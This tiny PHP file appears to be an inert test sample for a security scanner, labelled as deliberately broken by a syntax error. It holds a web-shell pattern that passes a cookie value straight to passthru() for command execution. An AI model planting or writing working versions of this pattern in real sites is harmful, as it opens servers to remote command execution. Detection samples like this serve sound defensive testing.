<?php
shodo inert sample: deliberate syntax error, this file never runs
$d = $_COOKIE['x'];
passthru($d);
